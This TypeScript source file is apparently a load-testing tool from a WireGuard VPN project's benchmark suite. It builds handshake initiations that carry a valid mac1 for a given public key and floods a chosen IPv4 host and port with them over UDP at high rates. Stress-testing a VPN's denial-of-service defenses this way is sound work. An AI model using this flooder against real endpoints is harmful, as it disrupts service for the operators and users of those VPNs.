/**
 * A handshake-initiation flood, as `wg_attack`-style tools send it (used by
 * `wg-flood.bench.ts`; a program, not a benchmark itself): from one UDP source, WireGuard
 * handshake initiations whose mac1 is valid for the target's public key (anyone who knows the
 * public key can make one), from a static key the target does not know, with no mac2. A target
 * must take each one for a possibly real peer's until it checks mac2 or does the Diffie-Hellman.
 *
 * The messages are built with the engine's own code (`noise.ts` createInitiation, `cookie.ts`
 * CookieMaker for mac1): a pool of distinct initiations (fresh ephemeral key and sender index
 * each), sent round-robin from one connected udp4 socket, paced to `--rate` per second in small
 * bursts per event-loop turn, or as fast as one core goes when the rate cannot be reached.
 *
 *   node --import tsx bench/wg-flood.ts --to 10.97.0.2:51820 --public-key BASE64 \
 *     [--rate 120000] [--seconds 10] [--pool 256] [--json]
 *
 * Prints one line when it starts and one at the end (datagrams sent, seconds, rate achieved,
 * send errors); SIGINT/SIGTERM end it early with the same summary.
 */

import { randomFillSync } from "node:crypto";
import { createSocket } from "node:dgram";
import { parseArgs } from "node:util";
import { CookieMaker } from "../src/vpn/cookie.ts";
import { nodeCrypto } from "../src/vpn/crypto-node.ts";
import { generatePrivateKey, keyFromBase64, publicKeyOf } from "../src/vpn/keys.ts";
import { createInitiation, tai64n } from "../src/vpn/noise.ts";
import { WG_INITIATION_LEN } from "../src/wire/wireguard.ts";

/** `count` distinct initiations to `targetPublicKey`, mac1 valid, mac2 zero. */
export function buildFloodInitiations(targetPublicKey: Uint8Array, count: number): Uint8Array[] {
  const c = nodeCrypto;
  const attacker = generatePrivateKey();
  const attackerPublic = publicKeyOf(attacker);
  const staticShared = c.dh(attacker, targetPublicKey);
  if (!staticShared) throw new Error("the target's public key is a low-order point");
  const macs = new CookieMaker(c, targetPublicKey, 120e9);
  const nowUnixNs = Date.now() * 1e6;
  const index = new Uint8Array(4);
  const out: Uint8Array[] = [];
  for (let i = 0; i < count; i++) {
    const msg = new Uint8Array(WG_INITIATION_LEN);
    randomFillSync(index);
    const state = createInitiation(
      c,
      attackerPublic,
      targetPublicKey,
      staticShared,
      generatePrivateKey(),
      new DataView(index.buffer).getUint32(0),
      tai64n(nowUnixNs + i),
      msg,
    );
    if (typeof state === "string") throw new Error(`cannot build an initiation: ${state}`);
    macs.addMacs(msg, WG_INITIATION_LEN, 0);
    out.push(msg);
  }
  return out;
}

export interface FloodResult {
  sent: number;
  seconds: number;
  ratePerSec: number;
  sendErrors: number;
}

/** Sends `pool` round-robin to host:port at `ratePerSec` for `seconds` (or until `signal`). */
export async function flood(opts: {
  host: string;
  port: number;
  pool: Uint8Array[];
  ratePerSec: number;
  seconds: number;
  signal?: AbortSignal;
}): Promise<FloodResult> {
  const sock = createSocket("udp4");
  let sendErrors = 0;
  sock.on("error", () => {
    sendErrors++;
  });
  await new Promise<void>((resolve, reject) => {
    sock.once("error", reject);
    sock.connect(opts.port, opts.host, () => {
      sock.off("error", reject);
      resolve();
    });
  });
  const burst = 64;
  let sent = 0;
  let next = 0;
  const startNs = process.hrtime.bigint();
  const endNs = startNs + BigInt(Math.round(opts.seconds * 1e9));
  for (let now = startNs; now < endNs && !opts.signal?.aborted; now = process.hrtime.bigint()) {
    const due = Math.floor((Number(now - startNs) / 1e9) * opts.ratePerSec) - sent;
    const n = Math.min(burst, due);
    for (let i = 0; i < n; i++) {
      sock.send(opts.pool[next]);
      next = next + 1 === opts.pool.length ? 0 : next + 1;
    }
    if (n > 0) sent += n;
    // A turn of the event loop: lets the sends go out and the signal arrive.
    await new Promise((r) => setImmediate(r));
  }
  const seconds = Number(process.hrtime.bigint() - startNs) / 1e9;
  await new Promise<void>((r) => sock.close(() => r()));
  return { sent, seconds, ratePerSec: sent / seconds, sendErrors };
}

async function main(): Promise<void> {
  const { values } = parseArgs({
    options: {
      to: { type: "string" },
      "public-key": { type: "string" },
      rate: { type: "string", default: "120000" },
      seconds: { type: "string", default: "10" },
      pool: { type: "string", default: "256" },
      json: { type: "boolean", default: false },
    },
  });
  const m = /^(\d+\.\d+\.\d+\.\d+):(\d+)$/.exec(values.to ?? "");
  if (!m || !values["public-key"]) {
    process.stderr.write(
      "usage: wg-flood --to IPV4:PORT --public-key BASE64 [--rate N] [--seconds S] [--pool N]\n",
    );
    process.exit(2);
  }
  const pool = buildFloodInitiations(keyFromBase64(values["public-key"]), Number(values.pool));
  const stop = new AbortController();
  for (const s of ["SIGINT", "SIGTERM"] as const) process.once(s, () => stop.abort());
  const ratePerSec = Number(values.rate);
  const seconds = Number(values.seconds);
  const say = (o: object, text: string) =>
    process.stdout.write(values.json ? `${JSON.stringify(o)}\n` : `${text}\n`);
  say(
    { event: "start", to: values.to, ratePerSec, seconds, pool: pool.length },
    `flooding ${values.to} with handshake initiations (valid mac1, ${pool.length} distinct) at ${ratePerSec}/s for ${seconds} s`,
  );
  const r = await flood({ host: m[1], port: Number(m[2]), pool, ratePerSec, seconds, signal: stop.signal });
  say(
    { event: "done", ...r },
    `sent ${r.sent} initiations in ${r.seconds.toFixed(2)} s = ${Math.round(r.ratePerSec)}/s (send errors ${r.sendErrors})`,
  );
}

if (process.argv[1]?.endsWith("wg-flood.ts")) await main();
